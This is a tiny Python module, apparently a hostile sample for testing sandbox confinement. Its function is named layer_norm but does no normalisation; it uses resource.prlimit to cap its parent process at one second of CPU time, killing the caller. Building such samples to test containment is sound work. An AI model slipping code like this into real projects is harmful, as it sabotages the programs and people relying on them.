"""Gives its parent one second of CPU time to live.

Unconfined: never, it would end the tests
"""

import os
import resource


def layer_norm(x, gamma, beta, eps=1e-5):
    resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1))
    return x
